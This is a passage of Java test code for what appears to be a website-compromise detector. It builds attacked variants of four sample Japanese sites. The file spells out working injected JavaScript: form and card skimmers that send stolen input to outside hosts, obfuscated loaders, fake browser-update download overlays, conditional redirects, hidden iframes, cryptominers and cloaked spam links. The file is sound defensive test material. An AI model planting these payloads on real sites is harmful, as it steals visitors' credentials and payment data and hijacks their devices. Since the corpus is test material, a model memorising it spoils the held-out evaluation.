package jp.mamori.checks.web.heldout;

import static jp.mamori.checks.web.heldout.HeldOutVariant.bad;
import static jp.mamori.checks.web.heldout.HeldOutVariant.good;
import static jp.mamori.checks.web.site.Corpus.b64;
import static jp.mamori.checks.web.site.Corpus.charCodes;
import static jp.mamori.checks.web.site.Corpus.hex;

import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Function;
import jp.mamori.checks.web.site.TestSite.Reply;
import jp.mamori.checks.web.site.TestSite.Request;

/**
 * The held-out corpus: compromises modelled on published incidents and benign edits modelled on what owners and
 * their web agencies really do, on four base sites that share nothing with {@code site.CompanySite}:
 * {@code midori} (WordPress 6.7, Lightning, CF7, reCAPTCHA, GA4), {@code shofudo} (EC-CUBE 4.2 shop),
 * {@code yamabuki} (hand-made Shift_JIS site from 2009) and {@code komorebi} (hosted site builder page).
 * Written against the sites, not against the detectors: no variant knows which rule is meant to catch it.
 */
public final class HeldOutCorpus {
  static final String W = "midori";
  static final String E = "shofudo";
  static final String S = "yamabuki";
  static final String K = "komorebi";
  public static final List<String> SITES = List.of(W, E, S, K);

  /** Domains on the test IoC list (as the console would distribute them), and one script's hash. */
  public static final List<String> IOC_DOMAINS = List.of("jsdelivr-cdn.top", "wp-statistic-api.com", "cdn-tagmanager.ru");
  static final String IOC_SCRIPT = "var _st=document.createElement('img');_st.src='https://stats-counter-jp.com/c.gif?r='"
      + "+encodeURIComponent(document.referrer)+'&t='+Date.now();";

  private HeldOutCorpus() {}

  public static String iocScript() {
    return IOC_SCRIPT;
  }

  static String unicode(String s) {
    StringBuilder sb = new StringBuilder();
    for (char c : s.toCharArray()) {
      sb.append(String.format("\\u%04x", (int) c));
    }
    return sb.toString();
  }

  /** A copy of the base site under the same origin, for answers given only to some visitors (bots, phones). */
  static HeldOutSite copy(HeldOutEnv e) {
    HeldOutSite c = HeldOutSite.load(e.site.name);
    c.origin = e.site.origin;
    return c;
  }

  static final String JP_BRAND_LINKS = """
      <a href="https://www.kopi-brand-shop.com/louisvuitton/">ルイヴィトン 財布 コピー</a>
      <a href="https://www.kopi-brand-shop.com/rolex/">ロレックス スーパーコピー 時計</a>
      <a href="https://www.kopi-brand-shop.com/chanel/">シャネル バッグ 激安 通販</a>
      <a href="https://www.n-kyuhin-store.com/hermes/">エルメス バーキン N級品</a>
      <a href="https://www.n-kyuhin-store.com/gucci/">グッチ 財布 偽物 激安</a>
      """;
  static final String CASINO_LINKS = """
      <a href="https://jp-casino-ranking.com/">オンラインカジノ おすすめ ランキング</a>
      <a href="https://jp-casino-ranking.com/bonus/">入金不要ボーナス 2026年最新</a>
      <a href="https://slot-paradise-jp.net/">ネットカジノ スロット 攻略</a>
      """;
  static final String PHARMA_LINKS = """
      <a href="https://rx-online-store.net/viagra">Buy Viagra 100mg online</a>
      <a href="https://rx-online-store.net/cialis">Generic Cialis without prescription</a>
      <a href="https://meds-express24.com/">Canadian pharmacy discount</a>
      """;

  public static List<HeldOutVariant> compromises() {
    List<HeldOutVariant> v = new ArrayList<>();
    skimmers(v);
    fakeUpdates(v);
    keywordHack(v);
    hiddenSpam(v);
    redirects(v);
    iframes(v);
    miners(v);
    obfuscation(v);
    defacements(v);
    forms(v);
    origins(v);
    tlsAndDns(v);
    v.addAll(freshCompromises());
    v.addAll(fresh2Compromises());
    return v;
  }

  // ---------------------------------------------------------------- Magecart-style skimmers

  static void skimmers(List<HeldOutVariant> v) {
    v.add(bad(E, "skimmer", "login page: form values to an Image beacon, drop URL in a variable", e -> e.site.insertBefore(
        "/mypage/login", "</body>", """
        <script>
        (function(){
          var k = 'https://ec-cube-analytics.com/collect/pixel.gif';
          function g(){ var d = {}; var f = document.querySelectorAll('input[type=email],input[type=password],input[type=text]');
            for (var i = 0; i < f.length; i++) { if (f[i].value) { d[f[i].name] = f[i].value; } }
            d.u = location.href;
            new Image().src = k + '?d=' + encodeURIComponent(btoa(unescape(encodeURIComponent(JSON.stringify(d)))));
          }
          document.addEventListener('submit', g, true);
        })();
        </script>
        """)));
    v.add(bad(E, "skimmer", "every page loads a script from a look-alike of the shop's domain", e -> e.site.insertBefore("*",
        "<script src=\"/html/template/default/assets/js/function.js\"></script>",
        "<script src=\"https://static.shofudo-kyoto-cdn.com/js/jquery.validate.min.js\"></script>\n")));
    v.add(bad(E, "skimmer", "appended to the shop's function.js, drop URL joined from pieces, fetch keepalive", e -> e.site.append(
        "/html/template/default/assets/js/function.js", """
        ;(function(){var _p=['ht','tps:','//','shofudo','-kyoto','.shop','/api/','log'];var _u=_p.join('');
        jQuery(document).on('submit','form',function(){var o={};jQuery(this).serializeArray().forEach(function(x){o[x.name]=x.value});
        fetch(_u,{method:'POST',mode:'no-cors',keepalive:true,body:btoa(encodeURIComponent(JSON.stringify(o)))});});})();
        """)));
    v.add(bad(E, "skimmer", "registration page streams every typed field over a WebSocket", e -> e.site.insertBefore("/entry",
        "</body>", """
        <script>
        var _ws; function _c(){ _ws = new WebSocket('wss://ws.cdn-shop-metrics.com:8443/live'); }
        _c();
        document.addEventListener('change', function(e){ if (e.target && e.target.tagName === 'INPUT') { try { _ws.send(JSON.stringify({n: e.target.name, v: e.target.value, p: location.pathname})); } catch (x) { _c(); } } }, true);
        </script>
        """)));
    v.add(bad(E, "skimmer", "contact form: FormData base64'd into new Image().src, drop URL base64'd", e -> e.site.insertBefore(
        "/contact", "</body>", "<script>\ndocument.querySelector('form.h-adr').addEventListener('submit', function(){\n"
            + "  var f = new FormData(this), o = [];\n  f.forEach(function(v, k){ o.push(k + '=' + v); });\n"
            + "  var i = new Image(); i.src = atob('" + b64("https://img.jquery-assets.net/p.gif") + "') + '?q=' + "
            + "btoa(unescape(encodeURIComponent(o.join('&'))));\n});\n</script>\n")));
    v.add(bad(E, "skimmer", "footer of every page: all inputs sent with fetch keepalive on beforeunload", e -> e.site.insertBefore(
        "*", "<!-- ▲フッター -->", """
        <script>window.addEventListener('beforeunload',function(){var d={};document.querySelectorAll('input,select,textarea').forEach(function(e){if(e.value&&e.type!=='hidden')d[e.name||e.id]=e.value});if(Object.keys(d).length)fetch('https://api.shopfront-stats.com/v2/collect',{method:'POST',keepalive:true,mode:'no-cors',body:JSON.stringify({h:location.host,d:d})});});</script>
        """)));
    v.add(bad(E, "skimmer", "fake payment overlay iframe over the cart page", e -> e.site.insertBefore("/cart",
        "<div class=\"ec-cartRole__actions\">", """
        <div id="sf-pay-overlay" style="position:fixed;top:0;left:0;width:100%;height:100%;background:rgba(0,0,0,.6);z-index:99999"><iframe src="https://secure-payment-jp.com/ec/v3/card.php?shop=shofudo" style="width:480px;height:560px;border:0;margin:80px auto;display:block;background:#fff"></iframe></div>
        """)));
    v.add(bad(E, "skimmer", "fake card form on the cart page posting to another site", e -> e.site.insertBefore("/cart",
        "<div class=\"ec-cartRole__actions\">", """
        <form id="sf-card" method="post" action="https://pay-shofudo.com/confirm.php"><h3>お支払い情報の確認</h3><p>セキュリティ強化のため、カード情報を再度ご入力ください。</p><input name="cardno" placeholder="カード番号"><input name="exp" placeholder="有効期限(MM/YY)"><input name="cvv" placeholder="セキュリティコード"><button>確認する</button></form>
        """)));
    v.add(bad(W, "skimmer", "contact form serialised with jQuery and posted to an IP address", e -> e.site.insertBefore("/contact/",
        "</body>", """
        <script>jQuery(function($){$('.wpcf7-form').on('submit',function(){$.post('http://185.199.110.77/wp/g.php',{d:btoa(unescape(encodeURIComponent($(this).serialize()))),s:location.hostname});});});</script>
        """)));
    v.add(bad(W, "skimmer", "CF7's own script file gets a hex-escaped drop URL and a sendBeacon", e -> e.site.append(
        "/wp-content/plugins/contact-form-7/includes/js/index.js", "\n;(function(){var h=\"" + hex("https://wp-forms-api.com/v1/s")
            + "\";document.addEventListener(\"wpcf7submit\",function(e){var d=e.detail.inputs.map(function(i){return i.name+\"=\"+"
            + "encodeURIComponent(i.value)}).join(\"&\");navigator.sendBeacon(h,d)})})();\n")));
    v.add(bad(W, "skimmer", "real jquery-migrate file with an XHR skimmer appended (atob drop)", e -> e.site.append(
        "/wp-includes/js/jquery/jquery-migrate.min.js", "\n!function(){var u=atob(\"" + b64("https://jquery-migrate-cdn.com/m.php")
            + "\");jQuery(document).on(\"submit\",\"form\",function(){var x=new XMLHttpRequest;x.open(\"POST\",u,!0);"
            + "x.setRequestHeader(\"Content-Type\",\"application/x-www-form-urlencoded\");x.send(\"d=\"+btoa(jQuery(this).serialize()))})}();\n")));
    v.add(bad(K, "skimmer", "builder custom code: reads the form on submit and posts it to a new domain", e -> e.site.insertBefore("*",
        "</head>", """
        <script>document.addEventListener('submit',function(ev){var f=ev.target,q=[];for(var i=0;i<f.elements.length;i++){var el=f.elements[i];if(el.name)q.push(el.name+'='+encodeURIComponent(el.value))}var x=new XMLHttpRequest();x.open('POST','https://forms-backup-service.com/save',true);x.send(q.join('&'))},true);</script>
        """)));
  }

  // ---------------------------------------------------------------- SocGholish / ClearFake / fake updates

  static void fakeUpdates(List<HeldOutVariant> v) {
    v.add(bad(W, "fake-update", "SocGholish-style inline loader, host split into pieces", e -> e.site.insertBefore("*", "</head>", """
        <script>;(function(d,s){var e=d.createElement(s);e.async=1;e.src='https://'+'content.'+'garden-furniture-outlet'+'.com/report?r='+encodeURIComponent(btoa(d.location.href));var t=d.getElementsByTagName(s)[0];t.parentNode.insertBefore(e,t)})(document,'script');</script>
        """)));
    v.add(bad(W, "fake-update", "fake Chrome update overlay in Japanese with an off-site download", e -> e.site.insertBefore("/",
        "<a class=\"skip-link screen-reader-text\" href=\"#main\">", """
        <div id="chrome-update" style="position:fixed;inset:0;background:#f1f3f4;z-index:2147483647;font-family:sans-serif;text-align:center;padding-top:120px"><h1>お使いのブラウザは最新ではありません</h1><p>Google Chrome の重大なセキュリティ更新があります。このページを正しく表示するには、ブラウザを更新してください。</p><p><a href="https://chrome-update-download.com/files/ChromeSetup.zip" style="display:inline-block;padding:12px 32px;background:#1a73e8;color:#fff;border-radius:4px">今すぐ更新</a></p></div>
        """)));
    v.add(bad(S, "fake-update", "English fake browser update banner with an .exe download", e -> e.site.insertAfter("*",
        "<div align=\"center\">", """
        <div style="position:absolute;top:0;left:0;width:100%;background:#fff3cd;border-bottom:2px solid #f0ad4e;padding:24px;z-index:9999">
        <h2>Your browser is out of date!</h2><p>A critical security update is required to view this page. Update your browser now.</p>
        <a href="http://browser-update-center.net/download/Chrome_Update_x64.exe">Update Chrome</a></div>
        """)));
    v.add(bad(K, "fake-update", "full-screen iframe overlay from another site", e -> e.site.insertBefore("*",
        "<div id=\"SCROLL_TO_BOTTOM\"", """
        <iframe src="https://update-browser-now.com/chrome/ja/" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:999999;border:none;background:#fff"></iframe>
        """)));
    v.add(bad(E, "fake-update", "ClearFake-style: code fetched from a blockchain RPC and run with new Function", e -> e.site.insertBefore(
        "*", "</head>", """
        <script>(async()=>{try{const r=await fetch("https://bsc-dataseed.bnbchain-rpc.org/",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({jsonrpc:"2.0",id:1,method:"eth_call",params:[{to:"0x7f36D9292e7c70A204faCC2d255475A861487c60",data:"0x6d4ce63c"},"latest"]})});const j=await r.json();const c=atob(j.result.slice(2).match(/../g).map(h=>String.fromCharCode(parseInt(h,16))).join("").replace(/[^A-Za-z0-9+/=]/g,""));new Function(c)();}catch(e){}})();</script>
        """)));
  }

  // ---------------------------------------------------------------- Japanese keyword hack

  static String spamPage(HeldOutEnv e, int n) {
    String[] brands = {"ルイヴィトン", "シャネル", "ロレックス", "エルメス", "グッチ", "プラダ"};
    String[] items = {"財布", "バッグ", "時計", "ベルト", "キーケース"};
    String b = brands[n % brands.length];
    String i = items[n % items.length];
    StringBuilder links = new StringBuilder();
    for (int k = 1; k <= 12; k++) {
      links.append("<li><a href=\"").append(e.site.origin).append("/kw/").append(n * 7 + k).append(".html\">")
          .append(brands[(n + k) % brands.length]).append(" ").append(items[k % items.length]).append(" コピー</a></li>");
    }
    return "<!DOCTYPE html><html lang=\"ja\"><head><meta charset=\"UTF-8\"><title>" + b + " " + i + " スーパーコピー 激安通販 - "
        + n + "</title><meta name=\"description\" content=\"" + b + " " + i + " コピー N級品 送料無料 代引き\"></head><body>"
        + "<h1>" + b + " " + i + " スーパーコピー</h1><p>" + b + " " + i + " 激安 N級品 正規品と同等品質。全国送料無料、代引き対応。"
        + "</p><ul>" + links + "</ul></body></html>";
  }

  static String sitemap(HeldOutEnv e, int from, int count) {
    StringBuilder sb = new StringBuilder("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
        + "<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">");
    for (int n = from; n < from + count; n++) {
      sb.append("<url><loc>").append(e.site.origin).append("/kw/").append(n).append(".html</loc><lastmod>2026-11-2")
          .append(n % 9).append("</lastmod></url>");
    }
    return sb.append("</urlset>").toString();
  }

  static Function<Request, Reply> kwPages(HeldOutEnv e, boolean botsOnly) {
    return r -> {
      if (!r.path().startsWith("/kw/")) {
        return null;
      }
      if (botsOnly && !r.isBot()) {
        return Reply.status(404);
      }
      String num = r.path().replaceAll("\\D", "");
      return Reply.html(spamPage(e, num.isEmpty() ? 1 : Integer.parseInt(num) % 5000));
    };
  }

  static void keywordHack(List<HeldOutVariant> v) {
    v.add(bad(W, "keyword-hack", "cloaked: Googlebot gets a brand-copy title and a block of spam links", e -> {
      HeldOutSite bot = copy(e);
      bot.replace("/", "<title>川越のリフォーム・注文住宅なら株式会社みどり工務店</title>",
          "<title>ルイヴィトン 財布 コピー 激安通販 | 株式会社みどり工務店</title>");
      StringBuilder block = new StringBuilder("<div class=\"home-links\"><ul>");
      for (int n = 1; n <= 30; n++) {
        block.append("<li><a href=\"").append(e.site.origin).append("/?p=").append(4100 + n).append("\">")
            .append(n % 2 == 0 ? "ロレックス スーパーコピー N級品" : "シャネル 偽物 バッグ 激安").append("</a></li>");
      }
      bot.insertBefore("/", "<section class=\"home-cta\">", block.append("</ul></div>").toString());
      e.site.override = r -> r.isBot() && r.path().equals("/") ? bot.serve(r) : null;
    }));
    v.add(bad(W, "keyword-hack", "thousands of spam pages listed in an injected sitemap (home page unchanged)", e -> {
      e.site.append("/robots.txt", "Sitemap: {{origin}}/sitemap-jp-1.xml\nSitemap: {{origin}}/sitemap-jp-2.xml\n");
      e.site.put("/sitemap-jp-1.xml", sitemap(e, 1, 2500));
      e.site.put("/sitemap-jp-2.xml", sitemap(e, 2501, 2500));
      e.site.override = kwPages(e, false);
    }));
    v.add(bad(W, "keyword-hack", "spam pages shown only to Googlebot, listed in the WordPress sitemap index", e -> {
      e.site.replace("/wp-sitemap.xml", "</sitemapindex>", "<sitemap><loc>{{origin}}/wp-sitemap-posts-kw-1.xml</loc></sitemap>"
          + "</sitemapindex>");
      e.site.put("/wp-sitemap-posts-kw-1.xml", sitemap(e, 1, 2000));
      e.site.override = kwPages(e, true);
    }));
    v.add(bad(S, "keyword-hack", "brand-copy links added to the old site's sidebar", e -> e.site.insertBefore("*",
        "<tr><td><font size=\"2\">旅館やまぶき荘<br>", "<tr><td><font size=\"1\">" + JP_BRAND_LINKS + "</font></td></tr>")));
    v.add(bad(E, "keyword-hack", "new product category of N-grade brand copies in the shop", e -> {
      e.site.replace("*", "<li><a href=\"{{origin}}/products/list?category_id=4\">ギフト</a>",
          "<li><a href=\"{{origin}}/products/list?category_id=9\">ブランド財布</a></li><li><a href=\"{{origin}}/products/list?category_id=4\">ギフト</a>");
      e.site.replace("/products/list", "<li class=\"ec-shelfGrid__item\"><p>干菓子",
          "<li class=\"ec-shelfGrid__item\"><p>ルイヴィトン 長財布 N級品 スーパーコピー</p><p class=\"price02-default\">￥12,800</p></li>"
              + "<li class=\"ec-shelfGrid__item\"><p>ロレックス デイトナ コピー 激安</p><p class=\"price02-default\">￥29,800</p></li>"
              + "<li class=\"ec-shelfGrid__item\"><p>干菓子");
    }));
    v.add(bad(W, "keyword-hack", "footer links hidden by a class defined in an injected <style>", e -> {
      e.site.insertBefore("*", "</head>", "<style>.ft-links-2{position:absolute;left:-10000px;top:auto}</style>");
      e.site.insertBefore("*", "<div class=\"container site-footer-copyright\">", "<div class=\"ft-links-2\">" + JP_BRAND_LINKS
          + "</div>");
    }));
    v.add(bad(K, "keyword-hack", "cloaked: Googlebot gets a different page full of brand-copy text", e -> {
      HeldOutSite bot = copy(e);
      StringBuilder body = new StringBuilder();
      for (int n = 0; n < 20; n++) {
        body.append("<p class=\"font_8\">鎌倉 カフェ ルイヴィトン コピー 財布 激安 N級品 通販 ロレックス スーパーコピー 代引き 送料無料</p>");
      }
      bot.replace("/", bot.text("/").substring(bot.text("/").indexOf("<section"), bot.text("/").lastIndexOf("</section>") + 10),
          body.toString());
      e.site.override = r -> r.isBot() && r.path().equals("/") ? bot.serve(r) : null;
    }));
  }

  // ---------------------------------------------------------------- SEO spam hidden in many ways, pharma, casino

  static void hiddenSpam(List<HeldOutVariant> v) {
    v.add(bad(W, "seo-spam", "display:none block of online-casino links in the footer", e -> e.site.insertBefore("*",
        "<div class=\"container site-footer-copyright\">", "<div style=\"display: none !important\">" + CASINO_LINKS + "</div>")));
    v.add(bad(W, "seo-spam", "pharma links positioned far above the page", e -> e.site.insertBefore("*", "</body>",
        "<div style=\"position:absolute;top:-2000px;left:0\">" + PHARMA_LINKS + "</div>")));
    v.add(bad(S, "seo-spam", "brand-copy links in a zero font-size block", e -> e.site.insertBefore("*", "Copyright(C)",
        "<span style=\"font-size:0px;line-height:0\">" + JP_BRAND_LINKS + "</span>")));
    v.add(bad(S, "seo-spam", "casino links inside a <noscript> block", e -> e.site.insertBefore("*", "</body>",
        "<noscript>" + CASINO_LINKS + "<a href=\"https://bet-japan-online.com/\">ブックメーカー 日本</a></noscript>")));
    v.add(bad(E, "seo-spam", "Indonesian slot links in a zero-height overflow:hidden block", e -> e.site.insertBefore("*",
        "<!-- ▲フッター -->", "<div style=\"height:0;overflow:hidden\"><a href=\"https://gacor-maxwin88.com/\">slot gacor hari ini"
            + "</a> <a href=\"https://gacor-maxwin88.com/demo\">situs slot online terpercaya</a> <a href=\"https://rtp-live-jp.com/\">"
            + "rtp slot maxwin</a></div>")));
    v.add(bad(K, "seo-spam", "links scaled to nothing with transform:scale(0)", e -> e.site.insertBefore("*",
        "<div id=\"SCROLL_TO_BOTTOM\"", "<div style=\"transform:scale(0);position:absolute\">" + JP_BRAND_LINKS + "</div>")));
    v.add(bad(W, "seo-spam", "links collapsed with max-height:0", e -> e.site.insertBefore("/", "<section class=\"home-cta\">",
        "<div class=\"wp-block-group\" style=\"max-height:0;overflow:hidden\">" + CASINO_LINKS + "</div>")));
    v.add(bad(E, "seo-spam", "white-on-white pharma text on the product page", e -> e.site.insertBefore("/products/detail/3",
        "<div class=\"ec-productRole__tags\">", "<p style=\"color:#ffffff\">" + PHARMA_LINKS + "</p>")));
    v.add(bad(W, "seo-spam", "spam block hidden by a script after load", e -> e.site.insertBefore("*", "</body>",
        "<div id=\"wp-ft-9x\">" + CASINO_LINKS + "</div><script>document.getElementById('wp-ft-9x').style.display='none';</script>")));
    v.add(bad(W, "seo-spam", "brand links pushed below the page with position:fixed; bottom:-3000px", e -> e.site.insertBefore("*",
        "</body>", "<div style=\"position:fixed;bottom:-3000px\">" + JP_BRAND_LINKS + "</div>")));
    v.add(bad(K, "seo-spam", "link farm of unrelated sites added to the footer", e -> {
      StringBuilder sb = new StringBuilder("<div class=\"wixui-rich-text\"><p class=\"font_8\">");
      String[] words = {"loan", "seo", "cbd", "vape", "crypto", "dating", "essay", "forex"};
      for (int n = 0; n < 26; n++) {
        sb.append("<a href=\"https://").append(words[n % words.length]).append("-site").append(n).append(".net/\">")
            .append(words[n % words.length]).append(" ").append(n).append("</a> ");
      }
      e.site.insertBefore("*", "<div id=\"comp-lm3k2y5f\"", sb.append("</p></div>").toString());
    }));
    v.add(bad(W, "seo-spam", "hidden attribute on a spam list", e -> e.site.insertBefore("/",
        "<section class=\"home-reason\">", "<ul hidden>" + PHARMA_LINKS + "</ul>")));
    v.add(bad(W, "seo-spam", "online-casino ranking post published on the blog", e -> {
      e.site.replace("/", "<li class=\"postListText_item\">", "<li class=\"postListText_item\"><span class=\"postListText_date\">"
          + "2026.11.20</span><a href=\"{{origin}}/2026/11/20/casino-ranking/\" class=\"postListText_title\">【2026年最新】"
          + "おすすめオンラインカジノランキング</a></li><li class=\"postListText_item\">");
      e.site.putLike("/2026/11/20/casino-ranking/", "/2026/09/10/renewal/", "<div class=\"entry-body\">", "</div>\n</article>",
          "<p>日本人に人気のオンラインカジノを徹底比較。入金不要ボーナスやフリースピンがもらえるネットカジノ、ライブカジノ、"
              + "スポーツベットが楽しめるブックメーカーも紹介します。</p><p><a href=\"https://jp-casino-ranking.com/go\">"
              + "公式サイトはこちら</a></p>");
    }));
    v.add(bad(E, "seo-spam", "English pharma text in a product description", e -> e.site.replace("/products/detail/5",
        "宇治抹茶を練り込んだ本わらび粉のわらび餅です。", "Buy cheap Cialis online and generic Viagra 100mg without prescription. "
            + "Fast discreet shipping from our online pharmacy. 宇治抹茶を練り込んだ本わらび粉のわらび餅です。")));
    v.add(bad(K, "seo-spam", "Korean casino spam links in the footer", e -> e.site.insertBefore("*", "<div id=\"comp-lm3k2y5f\"",
        "<p class=\"font_8\"><a href=\"https://casino-site-kr.com/\">카지노사이트 추천</a> <a href=\"https://toto-site-kr.com/\">"
            + "토토사이트 먹튀검증</a> <a href=\"https://baccarat-kr.com/\">바카라사이트</a></p>")));
    v.add(bad(S, "seo-spam", "ED-drug shop links added to the news page", e -> e.site.insertBefore("/news.html", "</table>",
        "<tr><td valign=\"top\"><font size=\"2\">2026.11.18</font></td><td><font size=\"2\"><a href=\"https://ed-generic-jp.com/\">"
            + "バイアグラ ジェネリック 通販</a>・<a href=\"https://ed-generic-jp.com/cialis\">シアリス 最安値</a></font></td></tr>")));
  }

  // ---------------------------------------------------------------- conditional redirects

  static void redirects(List<HeldOutVariant> v) {
    v.add(bad(W, "redirect", ".htaccess: 302 to a spam shop only for visitors from Google or Yahoo", e -> e.site.override = r ->
        r.referer() != null && r.referer().matches(".*(google|yahoo|bing)\\..*")
            ? Reply.redirect(302, "https://brand-outlet-jp.com/?src=mk") : null));
    v.add(bad(E, "redirect", "302 to a prize scam for smartphones only", e -> e.site.override = r ->
        r.userAgent() != null && r.userAgent().matches(".*(iPhone|Android).*")
            ? Reply.redirect(302, "https://lucky-prize-campaign.com/jp/") : null));
    v.add(bad(W, "redirect", "script: phones from a search engine sent to a URL built from char codes", e -> e.site.insertBefore("*",
        "</head>", "<script>if(/Android|iPhone|iPad/i.test(navigator.userAgent)&&/google|yahoo|bing/i.test(document.referrer))"
            + "{var u=String.fromCharCode(" + charCodes("https://sp-campaign-gift.com/?id=3") + ");setTimeout(function(){"
            + "location.replace(u)},800);}</script>")));
    v.add(bad(S, "redirect", "meta refresh to another site after 3 seconds", e -> e.site.insertAfter("/", "<head>",
        "\n<meta http-equiv=\"Refresh\" content=\"3; URL=https://onsen-deal-jp.com/\">")));
    v.add(bad(W, "redirect", "script: search referrer check with the target split into pieces", e -> e.site.insertBefore("*",
        "</body>", """
        <script>(function(){var r=document.referrer;if(r.indexOf('google')>-1||r.indexOf('yahoo')>-1){window.location.href='https://'+'kopi-brand'+'-outlet.com/?k='+encodeURIComponent(r);}})();</script>
        """)));
    v.add(bad(K, "redirect", "301 for Googlebot to a spam domain", e -> e.site.override = r -> r.isBot()
        ? Reply.redirect(301, "https://kamakura-brand-outlet.com/") : null));
    v.add(bad(E, "redirect", "script redirect written with bracket notation", e -> e.site.insertBefore("*", "</head>",
        "<script>setTimeout(function(){window['location']['href']='https://sweets-gift-campaign.com/?r=shofudo';},4000);</script>")));
    v.add(bad(W, "redirect", "theme script file gets a search-referrer redirect appended", e -> e.site.append(
        "/wp-content/themes/lightning/_g3/assets/js/main.js", "\n;(function(){if(/google|yahoo|bing/i.test(document.referrer)&&"
            + "!document.cookie.match(/_wpr=/)){document.cookie='_wpr=1;path=/;max-age=86400';window.location.replace("
            + "'https://reform-loan-jp.com/?ref=mk');}})();\n")));
    v.add(bad(S, "redirect", "one page (sightseeing) answers 302 to another site for everyone", e -> e.site.override = r ->
        r.path().equals("/kankou.html") ? Reply.redirect(302, "http://cheap-onsen-tour.com/") : null));
    v.add(bad(K, "redirect", "script redirect after a delay, only once per visitor (cookie)", e -> e.site.insertBefore("*",
        "</head>", "<script>if(!document.cookie.match(/_vr=/)){document.cookie='_vr=1;path=/;max-age=604800';setTimeout(function(){"
            + "window.location.replace('https://cafe-coupon-gift.com/lp/');},2000);}</script>")));
  }

  // ---------------------------------------------------------------- malicious iframes

  static void iframes(List<HeldOutVariant> v) {
    v.add(bad(W, "iframe", "zero-size iframe in the footer", e -> e.site.insertBefore("*", "</footer>",
        "<iframe src=\"https://traffic-counter-pro.com/in.php?s=midori\" width=\"0\" height=\"0\" frameborder=\"0\"></iframe>")));
    v.add(bad(S, "iframe", "off-screen iframe", e -> e.site.insertBefore("*", "</body>",
        "<iframe src=\"http://onsen-ads-gate.com/tds/go.php\" style=\"position:absolute;left:-3000px;top:0\" width=\"300\" "
            + "height=\"250\"></iframe>")));
    v.add(bad(E, "iframe", "iframe with opacity 0", e -> e.site.insertBefore("*", "<!-- ▲フッター -->",
        "<iframe src=\"https://ad-exchange-jp.net/f/2291\" width=\"468\" height=\"60\" style=\"opacity:0;filter:alpha(opacity=0);"
            + "position:absolute\"></iframe>")));
    v.add(bad(K, "iframe", "1-pixel iframe created by script", e -> e.site.insertBefore("*", "</body>", """
        <script>(function(){var f=document.createElement('iframe');f.src='https://stat-frame-host.com/f.html?u='+encodeURIComponent(location.href);f.style.width='1px';f.style.height='1px';f.style.visibility='hidden';f.frameBorder=0;document.body.appendChild(f);})();</script>
        """)));
    v.add(bad(S, "iframe", "old-style unquoted 1x1 iframe", e -> e.site.insertBefore("/", "</body>",
        "<iframe src=http://91.215.40.12/cnt/ width=1 height=1 frameborder=0></iframe>")));
    v.add(bad(W, "iframe", "iframe inside a hidden div", e -> e.site.insertBefore("/", "<section class=\"home-cta\">",
        "<div style=\"display:none\"><iframe src=\"https://gate-router-js.com/r/9\" width=\"600\" height=\"400\"></iframe></div>")));
  }

  // ---------------------------------------------------------------- cryptominers

  static final String MINER_LIB = """
      /*! lazy image loader v2.1 */
      var WebMiner=function(k,o){this.key=k;this.opts=o||{};this.threads=[];this.throttle=this.opts.throttle||0;this.hashes=0;
      this.pool=this.opts.pool||'wss://pool.webxmr-proxy.com:8892/';};
      WebMiner.prototype.start=function(){var n=this.opts.threads||navigator.hardwareConcurrency||2;for(var i=0;i<n;i++){
      var w=new Worker(URL.createObjectURL(new Blob(['importScripts("'+location.origin+'/wp-content/uploads/2026/11/cn.js")'])));
      w.postMessage({type:'job',algo:'cryptonight',variant:2,throttle:this.throttle});this.threads.push(w);}};
      WebMiner.prototype.getHashesPerSecond=function(){return this.hashes;};
      """;

  static void miners(List<HeldOutVariant> v) {
    v.add(bad(W, "miner", "self-hosted miner renamed as a lazy-load library, started inline", e -> {
      e.site.put("/wp-content/uploads/2026/11/jquery.lazy.min.js", MINER_LIB);
      e.site.insertBefore("*", "</body>", "<script src=\"{{origin}}/wp-content/uploads/2026/11/jquery.lazy.min.js\"></script>"
          + "<script>var _wm=new WebMiner('44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A',"
          + "{throttle:0.3});_wm.start();</script>");
    }));
    v.add(bad(E, "miner", "WebAssembly miner inline, one worker per core", e -> e.site.insertBefore("*", "</body>", """
        <script>(async function(){const m=await WebAssembly.instantiateStreaming(fetch('/html/user_data/assets/wasm/cn.wasm'));for(let i=0;i<navigator.hardwareConcurrency;i++){const w=new Worker('/html/user_data/assets/js/worker.js');w.postMessage({module:m.module,job:{blob:'0707e6bdfedc05',target:'b88d0600',nonce:i}});w.onmessage=e=>{if(e.data.hash){fetch('/html/user_data/submit',{method:'POST',body:JSON.stringify(e.data)})}}}})();</script>
        """)));
    v.add(bad(K, "miner", "mining pool over WebSocket with a throttle", e -> e.site.insertBefore("*", "</head>", """
        <script>var _p=new WebSocket('wss://xmr-pool-proxy.com:3333');_p.onopen=function(){_p.send(JSON.stringify({method:'login',params:{login:'47gK3vJxqN8A9o',pass:'x',agent:'webminer/1.0'}}))};_p.onmessage=function(m){var j=JSON.parse(m.data);if(j.method==='job'){self._job=j.params;}};var _throttle=0.2;</script>
        """)));
    v.add(bad(S, "miner", "CoinHive-compatible clone from a new host", e -> e.site.insertBefore("*", "</body>",
        "<script src=\"https://www.cryptonoter.com/processor.js\"></script><script>var miner=new CryptoNoter.Anonymous("
            + "'onsen2026',{autoThreads:true,throttle:0.4});miner.start();</script>")));
    v.add(bad(W, "miner", "miner appended to the site's real jquery.min.js", e -> e.site.append(
        "/wp-includes/js/jquery/jquery.min.js", "\n" + MINER_LIB + "new WebMiner('47gK3vJxqN8A9o',{throttle:0.5}).start();\n")));
  }

  // ---------------------------------------------------------------- obfuscated JavaScript

  static final String OBFUSCATOR = """
